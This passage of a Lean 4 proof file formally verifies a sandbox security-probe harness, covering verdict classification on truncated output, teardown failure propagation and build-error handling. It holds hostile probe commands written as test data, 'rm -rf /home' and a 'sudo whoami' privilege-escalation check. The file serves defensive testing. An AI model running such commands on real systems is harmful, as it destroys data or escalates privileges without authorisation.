  ⟨⟨"rm -rf /home 2>&1", by decide⟩,
   no_probe_before_running envAllTimeout ⟨"rm -rf /home 2>&1", by decide⟩⟩

/-- Environment in which every remote command returns exit 0 with empty
output and everything else succeeds. -/
def envAllOk : Env :=
  { buildStatuses := ["build_complete"]
    logsFetch := Except.error "no logs"
    devboxStatuses := ["running"]
    exec := fun _ => ExecOutcome.ok ⟨0, some "", some ""⟩
    shutdownFails := false }

theorem beq_four_toLower (c : Char) : ('4' == Char.toLower c) = ('4' == c) := by
  show ('4' == (if c.toNat ≥ 65 ∧ c.toNat ≤ 90 then Char.ofNat (c.toNat + 32) else c))
      = ('4' == c)
  split
  · next h =>
    obtain ⟨h1, h2⟩ := h
    have hr : ('4' == c) = false := by
      rw [beq_eq_false_iff_ne]
      intro hc
      rw [← hc] at h1
      exact absurd h1 (by decide)
    have hl : ('4' == Char.ofNat (c.toNat + 32)) = false := by
      revert h1 h2
      generalize c.toNat = n
      intro h1 h2
      interval_cases n <;> decide
    rw [hl, hr]
  · rfl

theorem beq_zero_toLower (c : Char) : ('0' == Char.toLower c) = ('0' == c) := by
  show ('0' == (if c.toNat ≥ 65 ∧ c.toNat ≤ 90 then Char.ofNat (c.toNat + 32) else c))
      = ('0' == c)
  split
  · next h =>
    obtain ⟨h1, h2⟩ := h
    have hr : ('0' == c) = false := by
      rw [beq_eq_false_iff_ne]
      intro hc
      rw [← hc] at h1
      exact absurd h1 (by decide)
    have hl : ('0' == Char.ofNat (c.toNat + 32)) = false := by
      revert h1 h2
      generalize c.toNat = n
      intro h1 h2
      interval_cases n <;> decide
    rw [hl, hr]
  · rfl

theorem listStartsWith_map_toLower (needle : List Char)
    (hne : ∀ d ∈ needle, ∀ c, (d == Char.toLower c) = (d == c)) :
    ∀ l : List Char,
      listStartsWith needle (l.map Char.toLower) = listStartsWith needle l := by
  induction needle with
  | nil => intro l; cases l <;> rfl
  | cons d ds ih =>
    intro l
    cases l with
    | nil => rfl
    | cons c cs =>
      simp only [List.map_cons, listStartsWith]
      rw [hne d (List.mem_cons_self d ds) c,
        ih (fun x hx c1 => hne x (List.mem_cons_of_mem d hx) c1) cs]

theorem listHasSub_map_toLower (needle : List Char)
    (hne : ∀ d ∈ needle, ∀ c, (d == Char.toLower c) = (d == c)) :
    ∀ l : List Char,
      listHasSub needle (l.map Char.toLower) = listHasSub needle l := by
  intro l
  induction l with
  | nil => rfl
  | cons c cs ih =>
    simp only [List.map_cons, listHasSub]
    rw [ih]
    have := listStartsWith_map_toLower needle hne (c :: cs)
    simp only [List.map_cons] at this
    rw [this]

/-- Checking `"400" in output` is insensitive to lowering: digits have
no case. -/
theorem strInPy_400_lower (t : String) :
    strInPy "400" (pyLower t) = strInPy "400" t := by
  have hne : ∀ d ∈ ("400" : String).data, ∀ c,
      (d == Char.toLower c) = (d == c) := by
    intro d hd c
    have hdata : ("400" : String).data = ['4', '0', '0'] := rfl
    rw [hdata] at hd
    simp only [List.mem_cons, List.not_mem_nil, or_false] at hd
    have : d = '4' ∨ d = '0' := by tauto
    rcases this with h | h <;> rw [h]
    · exact beq_four_toLower c
    · exact beq_zero_toLower c
  exact listHasSub_map_toLower ("400" : String).data hne t.data

/-- The five blocking-signal substrings, in source order. -/
def specSignals : List String :=
  ["blocked", "denied", "permission", "400", "not found"]

set_option maxHeartbeats 2000000 in
/-- C1 (corrected): for a probe with expectation Blocked, the verdict is
Passed iff the exit status is nonzero or the TRUNCATED display text —
not the full combined output, as the claim states — contains one of the
five signal substrings case-insensitively, and Failed exactly otherwise. -/
theorem blocked_passed_iff_signal_in_truncated (p : Probe) (r : ExecResult)
    (h : p.expect = "blocked") :
    (classify p.expect (ExecOutcome.ok r) = Verdict.Passed
      ↔ (r.exit_status ≠ 0
         ∨ ∃ n ∈ specSignals, strInPy n (pyLower (displayOutput r)) = true))
    ∧ (classify p.expect (ExecOutcome.ok r) = Verdict.Failed
      ↔ (r.exit_status = 0
         ∧ ∀ n ∈ specSignals, strInPy n (pyLower (displayOutput r)) = false)) := by
  rw [h]
  have hcp : classifyPassed "blocked" r
      = (r.exit_status != 0
         || strInPy "blocked" (pyLower (displayOutput r))
         || strInPy "denied" (pyLower (displayOutput r))
         || strInPy "permission" (pyLower (displayOutput r))
         || strInPy "400" (displayOutput r)
         || strInPy "not found" (pyLower (displayOutput r))) := rfl
  have key : classifyPassed "blocked" r = true
      ↔ (r.exit_status ≠ 0
         ∨ ∃ n ∈ specSignals, strInPy n (pyLower (displayOutput r)) = true) := by
    rw [hcp]
    simp only [Bool.or_eq_true, bne_iff_ne,
      specSignals, List.mem_cons, List.not_mem_nil, or_false,
      exists_eq_or_imp, exists_eq_left]
    rw [strInPy_400_lower]
    tauto
  have hneg : ¬(r.exit_status ≠ 0
        ∨ ∃ n ∈ specSignals, strInPy n (pyLower (displayOutput r)) = true)
      ↔ (r.exit_status = 0
         ∧ ∀ n ∈ specSignals, strInPy n (pyLower (displayOutput r)) = false) := by
    constructor
    · intro hnd
      rw [not_or] at hnd
      obtain ⟨h0, hs⟩ := hnd
      rw [ne_eq, not_not] at h0
      refine ⟨h0, fun n hn => ?_⟩
      cases hb : strInPy n (pyLower (displayOutput r)) with
      | false => rfl
      | true => exact absurd ⟨n, hn, hb⟩ hs
    · rintro ⟨h0, hs⟩
      rw [not_or]
      refine ⟨by rw [ne_eq, not_not]; exact h0, ?_⟩
      rintro ⟨n, hn, hb⟩
      rw [hs n hn] at hb
      exact Bool.noConfusion hb
  have hcl : classify "blocked" (ExecOutcome.ok r)
      = (if classifyPassed "blocked" r = true then Verdict.Passed else Verdict.Failed) := rfl
  rw [hcl]
  cases hc : classifyPassed "blocked" r with
  | true =>
    rw [if_pos rfl]
    constructor
    · exact ⟨fun _ => key.mp hc, fun _ => rfl⟩
    · constructor
      · intro hv; exact absurd hv (by decide)
      · intro hr1
        exact absurd (key.mp hc) (hneg.mpr hr1)
  | false =>
    rw [if_neg (by decide)]
    constructor
    · constructor
      · intro hv; exact absurd hv (by decide)
      · intro hdisj
        have hkt := key.mpr hdisj
        rw [hc] at hkt
        exact Bool.noConfusion hkt
    · constructor
      · intro _
        refine hneg.mp (fun hdisj => ?_)
        have hkt := key.mpr hdisj
        rw [hc] at hkt
        exact Bool.noConfusion hkt
      · intro _; rfl

/-- Witness for C1 at the first concrete scenario of the spec: a Blocked probe
with exit 1 and stderr `"permission denied"`. -/
theorem blocked_passed_iff_signal_in_truncated_witness :
    (Probe.mk "Block sudo" "sudo whoami 2>&1" "blocked"
        "Prevent privilege escalation via sudo").expect = "blocked"
    ∧ ((classify "blocked" (ExecOutcome.ok ⟨1, some "", some "permission denied"⟩)
          = Verdict.Passed
        ↔ ((1 : Int) ≠ 0
           ∨ ∃ n ∈ specSignals,
               strInPy n (pyLower (displayOutput ⟨1, some "", some "permission denied"⟩))
                 = true))
       ∧ (classify "blocked" (ExecOutcome.ok ⟨1, some "", some "permission denied"⟩)
            = Verdict.Failed
        ↔ ((1 : Int) = 0
           ∧ ∀ n ∈ specSignals,
               strInPy n (pyLower (displayOutput ⟨1, some "", some "permission denied"⟩))
                 = false))) :=
  ⟨rfl, blocked_passed_iff_signal_in_truncated
    (Probe.mk "Block sudo" "sudo whoami 2>&1" "blocked"
      "Prevent privilege escalation via sudo")
    ⟨1, some "", some "permission denied"⟩ rfl⟩

/-- A result whose blocking signal sits entirely beyond the 200-character
truncation boundary: 200 `x`s followed by `"blocked"`, with exit 0. -/
def cexLongBlocked : ExecResult :=
  ⟨0, some (String.mk (List.replicate 200 'x') ++ "blocked"), some ""⟩

set_option maxRecDepth 40000 in
/-- C1 counterexample: the full combined output contains `"blocked"`
case-insensitively and the exit status is 0, so the claim says Passed —
but the classifier, deciding on the truncated text, says Failed. -/
theorem blocked_signal_beyond_truncation_cex :
    cexLongBlocked.exit_status = 0
    ∧ strInPy "blocked" (pyLower (combinedOutput cexLongBlocked)) = true
    ∧ classify "blocked" (ExecOutcome.ok cexLongBlocked) = Verdict.Failed :=
  ⟨rfl, by decide, by decide⟩

/-- Modelled from the spec (§4.3: output "truncated for display to a
bounded prefix length (not used for the decision, only for reporting)"):
the classifier with the decision taken on the FULL, untruncated combined
output. -/
def classifyPassedFull (expect : String) (r : ExecResult) : Bool :=
  let output := combinedOutput r
  let exit_code := r.exit_status
  if expect == "blocked" then
    exit_code != 0
      || strInPy "blocked" (pyLower output)
      || strInPy "denied" (pyLower output)
      || strInPy "permission" (pyLower output)
      || strInPy "400" output
      || strInPy "not found" (pyLower output)
  else if expect == "success" then
    exit_code == 0
  else
    true

/-- Verdict of the spec-described full-output classifier. -/
def classifyFull (expect : String) (r : ExecResult) : Verdict :=
  if classifyPassedFull expect r then Verdict.Passed else Verdict.Failed

/-- A result with 200 `y`s followed by `"denied"`, exit 0. -/
def cexLongDenied : ExecResult :=
  ⟨0, some (String.mk (List.replicate 200 'y') ++ "denied"), none⟩

set_option maxRecDepth 40000 in
/-- C2 counterexample: the verdict computed by the code differs from the
verdict on the full, untruncated combined output, so truncation IS used
for the classification decision. -/
theorem truncation_changes_verdict_cex :
    classifyFull "blocked" cexLongDenied = Verdict.Passed
    ∧ classify "blocked" (ExecOutcome.ok cexLongDenied) = Verdict.Failed :=
  ⟨by decide, by decide⟩

/-- C2 (corrected): the classification decision runs on the truncated
display text, not the full output; the two agree exactly when the
stripped combined output does not exceed the 200-character boundary. -/
theorem classify_agrees_below_truncation (expect : String) (r : ExecResult)
    (h : (combinedOutput r).length ≤ 200) :
    classify expect (ExecOutcome.ok r) = classifyFull expect r := by
  have hd : displayOutput r = combinedOutput r := by
    unfold displayOutput truncOut
    rw [if_neg (by omega)]
  have hp : classifyPassed expect r = classifyPassedFull expect r := by
    unfold classifyPassed classifyPassedFull
    rw [hd]
  show (if classifyPassed expect r = true then Verdict.Passed else Verdict.Failed)
      = classifyFull expect r
  rw [hp]
  rfl

/-- Witness for C2: a short `"denied"` output is classified identically
by the code and by the full-output rule. -/
theorem classify_agrees_below_truncation_witness :
    (combinedOutput ⟨0, some "denied", none⟩).length ≤ 200
    ∧ classify "blocked" (ExecOutcome.ok ⟨0, some "denied", none⟩)
        = classifyFull "blocked" ⟨0, some "denied", none⟩ :=
  ⟨by decide, classify_agrees_below_truncation "blocked" ⟨0, some "denied", none⟩ (by decide)⟩

/-- Environment in which every probe succeeds cleanly but the shutdown
call itself raises. -/
def envShutdownFail : Env :=
  { buildStatuses := ["build_complete"]
    logsFetch := Except.error "no logs"
    devboxStatuses := ["running"]
    exec := fun _ => ExecOutcome.ok ⟨0, some "", some ""⟩
    shutdownFails := true }

/-- C7 counterexample: the probe phase completes normally, yet the
outcome of the run is the teardown failure — the shutdown exception is propagated,
not swallowed, and nothing reports it. -/
theorem teardown_failure_changes_outcome_cex :
    (runCatsM envShutdownFail SECURITY_TESTS ⟨0, 0, 0⟩).2
      = Except.ok (⟨7, 13, 0⟩ : RunSummary)
    ∧ (runAfterRunning envShutdownFail).2 = Except.error "shutdown failed" :=
  ⟨rfl, rfl⟩

/-- C7 (corrected): teardown sits in the guaranteed-cleanup path, but a
failure of the shutdown call itself is not caught there: it propagates
as the failure of the whole run, replacing the outcome of the probe phase. -/
theorem teardown_failure_propagates (env : Env)
    (h : env.shutdownFails = true) :
    (runAfterRunning env).2 = Except.error "shutdown failed" := by
  rcases hce : runCatsM env SECURITY_TESTS ⟨0, 0, 0⟩ with ⟨cEvs, cRes⟩
  simp [runAfterRunning, hce, shutdownM, h]

/-- Witness for C7: the failing-shutdown environment. -/
theorem teardown_failure_propagates_witness :
    envShutdownFail.shutdownFails = true
    ∧ (runAfterRunning envShutdownFail).2 = Except.error "shutdown failed" :=
  ⟨rfl, teardown_failure_propagates envShutdownFail rfl⟩

/-- Environment whose build fails while log retrieval succeeds. -/
def envBuildFailLogsOk : Env :=
  { buildStatuses := ["build_failed"]
    logsFetch := Except.ok "LOGDATA"
    devboxStatuses := []
    exec := fun _ => ExecOutcome.timeout
    shutdownFails := false }

/-- C8 counterexample: build logs are retrieved (and printed), yet the
raised error is the constant `"Blueprint build failed"`, which carries
neither the retrieved logs nor any handle id. -/
theorem build_error_carries_no_logs_cex :
    (awaitBuild envBuildFailLogsOk ["build_failed"]).2
      = Except.error "Blueprint build failed"
    ∧ Event.printLogs "LOGDATA" ∈ (awaitBuild envBuildFailLogsOk ["build_failed"]).1
    ∧ strInPy "LOGDATA" "Blueprint build failed" = false :=
  ⟨rfl, by decide, by decide⟩

/-- C8 (corrected): on observing `build_failed` the loop retrieves logs
best-effort — a fetched log is printed, a fetch failure is swallowed —
and in either case then raises the fixed error
`"Blueprint build failed"`; the log-retrieval outcome never masks or
replaces the build failure, but the error carries no handle id or logs. -/
theorem build_failed_raises_fixed_error (env : Env) (rest : List String) :
    (awaitBuild env ("build_failed" :: rest)).2
      = Except.error "Blueprint build failed"
    ∧ (awaitBuild env ("build_failed" :: rest)).1
        = Event.buildStatus "build_failed"
            :: (match env.logsFetch with
                | Except.ok logs => [Event.printLogs logs]
                | Except.error _ => []) := by
  cases hf : env.logsFetch with
  | ok logs => exact ⟨by simp [awaitBuild, hf], by simp [awaitBuild, hf]⟩
  | error m => exact ⟨by simp [awaitBuild, hf], by simp [awaitBuild, hf]⟩

theorem summary_counts_add_up_witness :
    (runCatsM envAllOk SECURITY_TESTS ⟨0, 0, 0⟩).2 = Except.ok (⟨7, 13, 0⟩ : RunSummary)
    ∧ ((7 : Nat) + 13 + 0 = totalProbes SECURITY_TESTS
       ∧ (∀ (t : RunSummary) (e : String) (o : ExecOutcome),
           stepSummary t e o = { t with passed := t.passed + 1 }
           ∨ stepSummary t e o = { t with failed := t.failed + 1 }
           ∨ stepSummary t e o = { t with errors := t.errors + 1 })) :=
  ⟨rfl, summary_counts_add_up envAllOk ⟨7, 13, 0⟩ rfl⟩

